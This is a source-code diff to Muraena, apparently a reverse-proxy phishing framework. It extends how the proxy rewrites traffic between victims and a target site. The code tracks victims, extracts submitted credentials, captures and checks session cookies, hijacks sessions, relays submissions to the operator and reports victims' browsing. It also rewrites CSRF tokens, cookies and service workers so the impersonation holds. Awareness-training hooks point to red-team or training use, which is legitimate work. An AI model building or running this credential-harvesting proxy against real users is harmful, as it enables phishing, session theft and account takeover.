@@ -8,6 +8,7 @@ import (
 	"io/ioutil"
 	"net/http"
 	"net/url"
+	"path/filepath"
 	"regexp"
 	"strconv"
 	"strings"
@@ -92,21 +93,100 @@ func (muraena *MuraenaProxy) RequestBodyProcessor(request *http.Request, track *
 			}
 		}()
 
+		// the body forwarded is traced once rewritten, if enabled
+		contentType := request.Header.Get("Content-Type")
+		defer func() {
+			rewriteTracerOf(request.Context()).Body("request", replacer, Forward, contentType, buf, int(request.ContentLength))
+		}()
+
 		bodyString := string(buf)
 
 		// Trace credentials
+		found := false
 		if muraena.Session.Config.Tracking.Enabled && track.IsValid() {
-			found, err := track.ExtractCredentials(bodyString, request)
+			found, err = track.ExtractCredentials(bodyString, request)
 			if err != nil {
 				return errors.New(fmt.Sprintf("ExtractCredentials error: %s", err))
 			}
+		}
+
+		// Awareness training: the credential submissions are detected by the RequestProcessor
+		if found {
+			trainingSubmissionOf(request.Context()).Credentials()
+		}
+
+		// binaries and signed payloads are forwarded untouched
+		if protected.Protects(request.URL.Path, request.Header.Get("Content-Type")) || protected.ProtectsBody(buf) {
+			request.Body = ioutil.NopCloser(bytes.NewReader(buf))
+			return nil
+		}
+
+		// The CSRF tokens altered in the responses are restored before the transformation
+		if track.IsValid() {
+			buf = csrf.RestoreBody(track.ID, buf)
+		}
+
+		// gRPC messages cannot be transformed as raw strings, only the configured methods are rewritten
+		if grpc, text := isGRPC(request.Header.Get("Content-Type")); grpc {
+			method, ok := grpcMethods[request.URL.Path]
+			if !ok || method.request == nil {
+				request.Body = ioutil.NopCloser(bytes.NewReader(buf))
+				return nil
+			}
+
+			body, err := transformGRPC(buf, text, method.request, func(value string) string {
+				return replacer.Transform(value, true, base64)
+			})
+			if err != nil {
+				log.Warning("Error rewriting gRPC request %s, passing it through: %s", request.URL.Path, err)
+				body = buf
+			}
 
-			if found == true {
-				// muraena.Tracker.ShowVictims()
+			request.Body = ioutil.NopCloser(bytes.NewReader(body))
+			request.ContentLength = int64(len(body))
+			request.Header.Set("Content-Length", strconv.Itoa(len(body)))
+			return nil
+		}
+
+		// JSON bodies bound to a rule: only the selected values are transformed
+		if rule := matchJSONRule(jsonRules, request.URL.Path, true); rule != nil && isJSON(request.Header.Get("Content-Type")) {
+			body, err := transformJSON(buf, rule, func(value string) string {
+				return replacer.Transform(value, true, base64)
+			})
+			if err == nil {
+				request.Body = ioutil.NopCloser(bytes.NewReader(body))
+				request.ContentLength = int64(len(body))
+				request.Header.Set("Content-Length", strconv.Itoa(len(body)))
+				return nil
 			}
+
+			log.Warning("Error parsing JSON body, falling back to the raw transformation: %s", err)
 		}
 
-		transform := replacer.Transform(bodyString, true, base64)
+		// Multipart forms: only the field values are transformed, file parts are passed through untouched
+		if boundary := multipartBoundary(request.Header.Get("Content-Type")); boundary != "" {
+			uploads := ""
+			if muraena.Session.Config.Transform.Request.Uploads.Enabled {
+				uploads = muraena.Session.Config.Transform.Request.Uploads.Path
+				if track.IsValid() {
+					uploads = filepath.Join(uploads, track.ID)
+				}
+			}
+
+			body, err := transformMultipart(buf, boundary, func(value string) string {
+				return replacer.Transform(value, true, base64)
+			}, uploads)
+			if err == nil {
+				request.Body = ioutil.NopCloser(bytes.NewReader(body))
+				request.ContentLength = int64(len(body))
+				request.Header.Set("Content-Length", strconv.Itoa(len(body)))
+				return nil
+			}
+
+			log.Warning("Error parsing multipart body, falling back to the raw transformation: %s", err)
+		}
+
+		transform := replacer.TransformContent(buf, Forward, request.Header.Get("Content-Type"))
 		request.Body = ioutil.NopCloser(bytes.NewReader([]byte(transform)))
 		request.ContentLength = int64(len(transform))
 		request.Header.Set("Content-Length", strconv.Itoa(len(transform)))
@@ -127,7 +207,21 @@ func (muraena *MuraenaProxy) RequestProcessor(request *http.Request) (err error)
 
 	//
 	// TRACKING
-	track := muraena.Tracker.TrackRequest(request)
+	_, hook := tracing.Start(request.Context(), "module.tracker")
+	track := &tracking.Trace{Tracker: muraena.Tracker}
+	if operatorMode(request.Context()) == "" {
+		track = muraena.Tracker.TrackRequest(request)
+	}
+	hook.End()
+
+	// The CSRF tokens altered in the responses are restored, as the target issued them
+	if track.IsValid() {
+		csrf.Restore(track.ID, request)
+	}
+
+	// The rewrite of the URL and the headers is traced, if enabled
+	tracer := rewriteTracerOf(request.Context())
+	before := tracer.Snapshot(request.Host+request.URL.RequestURI(), 0, request.Header)
 
 	// If specified in the configuration, set the User-Agent header
 	if sess.Config.Transform.Request.UserAgent != "" {
@@ -158,7 +252,13 @@ func (muraena *MuraenaProxy) RequestProcessor(request *http.Request) (err error)
 	// Transform HTTP headers of interest
 	request.Host = muraena.Target.Host
 
+	mapOriginHeaders(replacer, request, base64)
+
 	for _, header := range sess.Config.Transform.Request.Headers {
+		if configuredHeader(header, originHeaders) {
+			continue
+		}
+
 		if request.Header.Get(header) != "" {
 			hVal := request.Header.Get(header)
 			hURL, err := replacer.transformUrl(hVal, base64)
@@ -174,6 +274,11 @@ func (muraena *MuraenaProxy) RequestProcessor(request *http.Request) (err error)
 		}
 	}
 
+	// Restore the cookie names renamed by the cookie rewriter
+	if cookie := request.Header.Get("Cookie"); cookie != "" {
+		request.Header.Set("Cookie", newCookieRewriter(sess, replacer, base64).Cookie(cookie))
+	}
+
 	// Track request cookies (if enabled)
 	if muraena.Session.Config.Tracking.TrackRequestCookies && track.IsValid() {
 		if len(request.Cookies()) > 0 {
@@ -212,6 +317,8 @@ func (muraena *MuraenaProxy) RequestProcessor(request *http.Request) (err error)
 					}
 					muraena.Tracker.PushCookie(victim, sessCookie)
 				}
+
+				muraena.Tracker.CheckSession(victim.ID)
 			}
 		}
 	}
@@ -222,7 +329,7 @@ func (muraena *MuraenaProxy) RequestProcessor(request *http.Request) (err error)
 	}
 
 	// Log line
-	lhead := fmt.Sprintf("[%s]", GetSenderIP(request))
+	lhead := fmt.Sprintf("[%s]", loggedIP(request))
 	if sess.Config.Tracking.Enabled {
 		lhead = fmt.Sprintf("[%*s]%s", track.TrackerLength, track.ID, lhead)
 	}
@@ -234,6 +341,15 @@ func (muraena *MuraenaProxy) RequestProcessor(request *http.Request) (err error)
 
 	if track.IsValid() {
 		log.Debug(l)
+
+		// Report the page the victim is browsing
+		if strings.Contains(request.Header.Get("Accept"), "text/html") {
+			session.Publish(session.Event{
+				Type:   session.EventRequest,
+				Victim: track.ID,
+				Data:   map[string]string{"method": request.Method, "host": request.Host, "path": request.URL.Path},
+			})
+		}
 	} else {
 		log.Verbose(l)
 	}
@@ -242,11 +358,16 @@ func (muraena *MuraenaProxy) RequestProcessor(request *http.Request) (err error)
 	for _, header := range sess.Config.Transform.Request.Remove.Headers {
 		request.Header.Del(header)
 	}
+	tracer.Compare("request", before, request.Host+request.URL.RequestURI(), 0, request.Header)
 
 	//
 	// BODY
 	//
 
+	// Awareness training: the submissions are detected once the tracker looked for credentials in the body,
+	// even if its processing is skipped, and before the relay and the tap can see them
+	defer trainer.Detect(request, track.ID)
+
 	// If the requested resource extension is no relevant, skip body processing.
 	for _, extension := range sess.Config.Transform.Request.SkipExtensions {
 		if strings.HasSuffix(request.URL.Path, fmt.Sprintf(".%s", extension)) {
@@ -259,7 +380,10 @@ func (muraena *MuraenaProxy) RequestProcessor(request *http.Request) (err error)
 		err = track.HijackSession(request)
 		if err != nil {
 			log.Warning("Error Hijacking Session: %s", err)
-			return nil
+			// The training still has to detect the credentials in the body of the submission
+			if trainer == nil {
+				return nil
+			}
 		}
 	}
 
@@ -272,36 +396,22 @@ func (muraena *MuraenaProxy) RequestProcessor(request *http.Request) (err error)
 	return nil
 }
 
+// trustedProxies are the CDNs and load balancers fronting the listener, nil if the victims connect directly
+var trustedProxies *session.TrustedProxies
+
 // GetSenderIP returns the IP address of the client that sent the request.
-// It checks the following headers in cascade order:
-// - True-Client-IP
-// - CF-Connecting-IP
-// - X-Forwarded-For
-// If none of the headers contain a valid IP, it falls back to RemoteAddr.
-// TODO Update Watchdog to use this function
+// The True-Client-IP, CF-Connecting-IP and X-Forwarded-For headers, or the configured ones,
+// are honored only on the connections of the trusted proxies: otherwise it is the RemoteAddr.
 func GetSenderIP(req *http.Request) string {
-	// Define the headers to check in cascade order
-	headerNames := []string{"True-Client-IP", "CF-Connecting-IP", "X-Forwarded-For"}
-
-	// Loop through the headers and return the first non-empty IP address found
-	for _, headerName := range headerNames {
-		ipAddress := req.Header.Get(headerName)
-		if ipAddress != "" {
-			// The header may contain a comma-separated list of IP addresses; the client's IP is the leftmost one
-			parts := strings.Split(ipAddress, ",")
-			clientIP := strings.TrimSpace(parts[0])
-			return clientIP
-		}
-	}
-
-	log.Verbose("Sender IP not found in headers, falling back to RemoteAddr")
+	return trustedProxies.ClientIP(req)
+}
 
-	// If none of the headers contain a valid IP, fall back to RemoteAddr
-	ipPort := req.RemoteAddr
-	parts := strings.Split(ipPort, ":")
-	ipAddress := parts[0]
+// anonymizer masks the addresses of the clients in the logs, nil if they are kept as they are
+var anonymizer *session.IPAnonymizer
 
-	return ipAddress
+// loggedIP returns the address of the client that sent the request, as it can be logged or exported
+func loggedIP(req *http.Request) string {
+	return anonymizer.Anonymize(GetSenderIP(req))
 }
 
 func (muraena *MuraenaProxy) ResponseProcessor(response *http.Response) (err error) {
@@ -312,6 +422,25 @@ func (muraena *MuraenaProxy) ResponseProcessor(response *http.Response) (err err
 		sess.Config.Transform.Base64.Padding,
 	}
 
+	// The education page of the awareness training is served as it is
+	if trainingSubmissionOf(response.Request.Context()).Phished() {
+		return
+	}
+
+	// The operator compares the original responses with the rewritten ones
+	mode := operatorMode(response.Request.Context())
+	if mode == operatorOriginal {
+		response.Header.Set(OperatorHeader, operatorOriginal)
+		return
+	}
+
+	// The rewrite of the status and the headers is traced, if enabled
+	tracer := rewriteTracerOf(response.Request.Context())
+	before := tracer.Snapshot("", response.StatusCode, response.Header)
+	defer func() {
+		tracer.Compare("response", before, "", response.StatusCode, response.Header)
+	}()
+
 	if response.Request.Header.Get(muraena.Tracker.LandingHeader) != "" {
 		response.StatusCode = 302
 		response.Header.Add(muraena.Tracker.Header, response.Request.Header.Get(muraena.Tracker.Header))
@@ -338,44 +467,22 @@ func (muraena *MuraenaProxy) ResponseProcessor(response *http.Response) (err err
 	for _, header := range sess.Config.Transform.Response.Remove.Headers {
 		response.Header.Del(header)
 	}
+	applySecurityHeaders(sess, response)
+	rewriteLinks(replacer, response.Header, base64)
 
 	// transform headers of interest
 	for _, header := range sess.Config.Transform.Response.Headers {
+		if strings.EqualFold(header, "Link") {
+			continue
+		}
+
 		if response.Header.Get(header) != "" {
 			if header == "Set-Cookie" {
+				cookies := newCookieRewriter(sess, replacer, base64)
+				victim := response.Request.Header.Get(muraena.Tracker.Header)
 				for k, value := range response.Header["Set-Cookie"] {
-					response.Header["Set-Cookie"][k] = replacer.Transform(value, false, base64)
-
-					// When the cookie is set for a wildcard domain, we need to replace the domain
-					// with the phishing domain.
-					if strings.Contains(response.Header["Set-Cookie"][k], "domain="+replacer.WildcardPrefix()) {
-						// Replace the domain
-						domain := strings.Split(response.Header["Set-Cookie"][k], "domain=")[1]
-						domain = strings.Split(domain, ";")[0]
-						newDomain := "." + replacer.Phishing
-						response.Header["Set-Cookie"][k] = strings.Replace(response.Header["Set-Cookie"][k], domain, newDomain, 1)
-					}
-
-					// Further, if the SameSite attribute is set in the configuration, we need to patch the cookie
-					if sess.Config.Transform.Response.Cookie.SameSite != "" {
-						cookie := response.Header["Set-Cookie"][k]
-
-						// if cookie contains SameSite (case insensitive)
-						samesite := ""
-						if strings.Contains(strings.ToLower(cookie), "samesite") {
-							samesite = strings.Split(cookie, "SameSite=")[1]
-							samesite = strings.Split(samesite, ";")[0]
-						}
-
-						if samesite != "" {
-							cookie = strings.Replace(cookie, samesite, sess.Config.Transform.Response.Cookie.SameSite, 1)
-						} else {
-							cookie = cookie + ";SameSite=" + sess.Config.Transform.Response.Cookie.SameSite
-						}
-
-						response.Header["Set-Cookie"][k] = cookie
-					}
-
+					response.Header["Set-Cookie"][k] = cookies.SetCookie(value)
+					csrf.ObserveCookie(victim, value, response.Header["Set-Cookie"][k])
 					log.Verbose("Set-Cookie: %s", response.Header["Set-Cookie"][k])
 				}
 				// } else if header == "Location" {
@@ -386,27 +493,48 @@ func (muraena *MuraenaProxy) ResponseProcessor(response *http.Response) (err err
 		}
 	}
 
-	// Media LandingType handling.
-	// Prevent processing of unwanted media types
-	mediaType := strings.ToLower(response.Header.Get("Content-Type"))
-	for _, skip := range sess.Config.Transform.Response.SkipContentType {
-		skip = strings.ToLower(skip)
+	rewriteCORS(sess, replacer, response, base64)
+
+	if dryRunner != nil {
+		dryRunner.Scan(response.Request.URL.Path, response.Header.Get("Location"))
+	}
 
-		if mediaType == skip {
+	// Service worker scripts are rewritten as any other script, unless replaced by the unregister shim
+	if isServiceWorkerScript(response.Request) {
+		if unregisterServiceWorkers(sess) {
+			log.Debug("Replacing the service worker %s with the unregister shim", response.Request.URL.Path)
+			serveServiceWorkerShim(response)
 			return
 		}
 
-		if strings.HasSuffix(skip, "/*") &&
-			strings.Split(mediaType, "/")[0] == strings.Split(skip, "/*")[0] {
-			return
+		if scope := response.Header.Get("Service-Worker-Allowed"); scope != "" {
+			response.Header.Set("Service-Worker-Allowed", replacer.Transform(scope, false, base64))
 		}
 	}
 
+	// Media LandingType handling.
+	// Prevent processing of unwanted media types
+	if !isRewritable(sess, response.Header.Get("Content-Type")) {
+		return
+	}
+	if protected.Protects(response.Request.URL.Path, response.Header.Get("Content-Type")) {
+		return
+	}
+
+	// Partial content cannot be rewritten, as the Content-Range would not match the transformed body.
+	// Ranges of rewritable content are stripped by the rangeTransport, so this is only a safety net.
+	if response.StatusCode == http.StatusPartialContent {
+		log.Debug("Skipping the rewrite of partial content %s", response.Request.URL)
+		return
+	}
+
 	//
 	// Trace
 	//
-	if muraena.Session.Config.Tracking.Enabled {
+	if muraena.Session.Config.Tracking.Enabled && mode == "" {
+		_, hook := tracing.Start(response.Request.Context(), "module.tracker")
 		trace := muraena.Tracker.TrackResponse(response)
+		hook.End()
 		if trace.IsValid() {
 
 			var err error
@@ -436,6 +564,10 @@ func (muraena *MuraenaProxy) ResponseProcessor(response *http.Response) (err err
 					muraena.Tracker.PushCookie(victim, sessCookie)
 				}
 
+				if len(response.Cookies()) > 0 {
+					muraena.Tracker.CheckSession(victim.ID)
+				}
+
 				// Trace credentials
 				found, err := trace.ExtractCredentialsFromResponseHeaders(response)
 				if err != nil {
@@ -494,6 +626,56 @@ func (muraena *MuraenaProxy) ResponseProcessor(response *http.Response) (err err
 	//
 	// BODY
 	//
+	// gRPC messages cannot be transformed as raw strings, only the configured methods are rewritten
+	if grpc, text := isGRPC(response.Header.Get("Content-Type")); grpc {
+		method, ok := grpcMethods[response.Request.URL.Path]
+		if !ok || method.response == nil {
+			return nil
+		}
+
+		modResponse := Response{Response: response}
+		responseBuffer, err := modResponse.Unpack()
+		if err != nil {
+			log.Info("Error reading/deflating response: %+v", err)
+			return err
+		}
+
+		body, err := transformGRPC(responseBuffer, text, method.response, func(value string) string {
+			return replacer.Transform(value, false, base64)
+		})
+		if err != nil {
+			log.Warning("Error rewriting gRPC response %s, passing it through: %s", response.Request.URL.Path, err)
+			body = responseBuffer
+		}
+
+		return modResponse.Encode(body)
+	}
+
+	// streaming responses are rewritten incrementally, instead of waiting for the whole body
+	if isStreaming(sess, response) {
+		stream, err := newStreamRewriter(response, sess.Config.Transform.Response.Stream.BufferSize, func(chunk string) string {
+			return replacer.Transform(chunk, false, base64)
+		})
+		if err != nil {
+			log.Info("Error reading/deflating response stream: %+v", err)
+			return err
+		}
+
+		response.Body = stream
+		return nil
+	}
+
+	// large bodies, i.e. installers, are streamed as they are instead of being held in memory
+	bypass, err := bypassRewrite(sess, response)
+	if err != nil {
+		log.Info("Error reading response: %+v", err)
+		return err
+	}
+	if bypass {
+		log.Debug("Passing through the large response %s without rewriting it", response.Request.URL)
+		return nil
+	}
+
 	// unpack response body
 	modResponse := Response{Response: response}
 	responseBuffer, err := modResponse.Unpack()
@@ -502,8 +684,74 @@ func (muraena *MuraenaProxy) ResponseProcessor(response *http.Response) (err err
 		return err
 	}
 
-	// process body and pack again
-	newBody := replacer.Transform(string(responseBuffer), false, base64)
+	// binaries served with a misleading Content-Type are passed through untouched
+	if protected.ProtectsBody(responseBuffer) {
+		log.Debug("Passing through the protected response %s without rewriting it", response.Request.URL)
+		return modResponse.Encode(responseBuffer)
+	}
+
+	// process body and pack again, reusing the cached rewrite of static assets
+	var newBody string
+	cacheKey := ""
+	if rewrites != nil && rewrites.Cacheable(response, responseBuffer) {
+		cacheKey = rewrites.Key(response, responseBuffer, replacer.Generation())
+	}
+
+	cached := false
+	if cacheKey != "" {
+		newBody, cached = rewrites.Get(cacheKey)
+	}
+
+	if !cached {
+		_, span := tracing.Start(response.Request.Context(), "replace")
+		span.Set("body.bytes", len(responseBuffer))
+
+		// large bodies are transformed by the worker pool, if enabled
+		err = transformers.Run(response.Request.Context(), len(responseBuffer), func() {
+			if rule := matchJSONRule(jsonRules, response.Request.URL.Path, false); rule != nil && isJSON(response.Header.Get("Content-Type")) {
+				// JSON bodies bound to a rule: only the selected values are transformed
+				body, err := transformJSON(responseBuffer, rule, func(value string) string {
+					return replacer.Transform(value, false, base64)
+				})
+				if err != nil {
+					log.Warning("Error parsing JSON body, falling back to the raw transformation: %s", err)
+					body = []byte(replacer.Transform(string(responseBuffer), false, base64))
+				}
+				newBody = string(body)
+			} else {
+				newBody = string(replacer.TransformContent(responseBuffer, Backward, response.Header.Get("Content-Type")))
+			}
+		})
+		span.Fail(err)
+		span.End()
+		if err != nil {
+			log.Debug("Transformation of %s abandoned: %s", response.Request.URL, err)
+			return err
+		}
+
+		if cacheKey != "" {
+			rewrites.Add(cacheKey, newBody)
+		}
+	}
+
+	tracer.Body("response", replacer, Backward, response.Header.Get("Content-Type"), responseBuffer, len(newBody))
+
+	if mode != "" {
+		newBody = operators.Rewrite(mode, replacer, response, responseBuffer, newBody)
+	} else if variants != nil && muraena.Tracker != nil {
+		// The victims assigned to a variant get its transformation on top of the common one
+		variant := muraena.Tracker.Variant(response.Request.Header.Get(muraena.Tracker.Header))
+		newBody = variants[variant].Apply(response.Header.Get("Content-Type"), newBody)
+	}
+	if mode == "" {
+		newBody = clientRewriteOf(response.Request.Context()).Apply(response.Header.Get("Content-Type"), newBody)
+		csrf.ObserveBody(response.Request.Header.Get(muraena.Tracker.Header), string(responseBuffer), newBody)
+	}
+
+	if dryRunner != nil {
+		dryRunner.Scan(response.Request.URL.Path, newBody)
+	}
+	reportServiceWorkers(response.Request.URL.Path, newBody)
 
 	// Ugly Google patch
 	if strings.Contains(response.Request.URL.Path, "AccountsSignInUi/data/batchexecute") {
@@ -569,27 +817,82 @@ func (init *MuraenaProxyInit) Spawn() *MuraenaProxy {
 			return
 		}
 
-		if err = muraena.RequestProcessor(r); err != nil {
+		relayed := relays != nil && relays.Matches(r.URL.Path) && operatorMode(r.Context()) == ""
+
+		_, span := tracing.Start(r.Context(), "rewrite-request")
+		err = muraena.RequestProcessor(r)
+		span.Fail(err)
+		span.End()
+		if err != nil {
 			log.Error(err.Error())
 			return
 		}
 
 		// Send the request to the target
 		director(r)
+
+		// Relay the submission to the operator, holding it if required
+		if relayed {
+			victim := ""
+			if muraena.Tracker != nil && muraena.Tracker.Enabled {
+				victim = r.Header.Get(muraena.Tracker.Header)
+			}
+			relays.Capture(r, victim)
+		}
 	}
 	proxy.ModifyResponse = muraena.ResponseProcessor
+	if tracing != nil {
+		proxy.ModifyResponse = func(response *http.Response) error {
+			ctx, span := tracing.Start(response.Request.Context(), "rewrite-response")
+			defer span.End()
+			if span != nil {
+				response.Request = response.Request.WithContext(ctx)
+				span.Set("http.status_code", response.StatusCode)
+			}
+
+			err := muraena.ResponseProcessor(response)
+			span.Fail(err)
+			return err
+		}
+	}
+	proxy.ModifyEarlyHints = muraena.EarlyHintsProcessor
 	proxy.ErrorHandler = muraena.ProxyErrHandler
 
-	// Attach TLS configurations to proxy
-	transport := http.Transport{TLSClientConfig: sess.GetTLSClientConfig()}
-	if *sess.Options.Proxy {
-		// If HTTP_PROXY or HTTPS_PROXY env variables are defined
-		// all the proxy traffic will be forwarded to the defined proxy.
-		// Basically a MiTM of the MiTM :)
-		transport.Proxy = http.ProxyFromEnvironment
-		transport.TLSClientConfig.InsecureSkipVerify = true
+	// Attach the pooled transport of the destination, which holds the TLS configuration
+	proxy.Transport = upstreamTransports.Get(sess, destination.Host)
+	if taps != nil && taps.stage == tapUpstream {
+		proxy.Transport = &tapTransport{tap: taps, next: proxy.Transport}
+	}
+	if tracing != nil {
+		proxy.Transport = &tracingTransport{next: proxy.Transport}
+	}
+	if retries != nil {
+		proxy.Transport = &retryTransport{retries: retries, next: proxy.Transport}
+	}
+	if breaker != nil {
+		proxy.Transport = &breakerTransport{breaker: breaker, session: sess, next: proxy.Transport}
+	}
+	if queue != nil {
+		header := ""
+		if muraena.Tracker != nil && muraena.Tracker.Enabled {
+			header = muraena.Tracker.Header
+		}
+		proxy.Transport = &queueTransport{queue: queue, header: header, next: proxy.Transport}
+	}
+	if assets != nil {
+		proxy.Transport = &cachingTransport{cache: assets, next: proxy.Transport}
+	}
+	if brand != nil {
+		proxy.Transport = &brandTransport{assets: brand, replacer: muraena.Replacer, next: proxy.Transport}
+	}
+	proxy.Transport = &rangeTransport{session: sess, next: proxy.Transport}
+	if trainer != nil {
+		proxy.Transport = &trainingTransport{training: trainer, next: proxy.Transport}
+	}
+	if routingProfiles != nil && muraena.Tracker != nil && muraena.Tracker.Enabled {
+		proxy.Transport = &enrichmentTransport{header: muraena.Tracker.Header, enrichment: muraena.Tracker.Enrichment,
+			target: sess.Config.Proxy.Target, next: proxy.Transport}
 	}
-	proxy.Transport = &transport
 
 	return muraena
 }
@@ -640,6 +943,11 @@ func (st SessionType) HandleFood(response http.ResponseWriter, request *http.Req
 		}
 	}
 
+	// The unknown hosts are proxied to the default origin, if configured
+	if destination == "" {
+		destination = unknownOrigin(request.Context())
+	}
+
 	if destination == "" {
 
 		// CustomContent Subdomain Mapping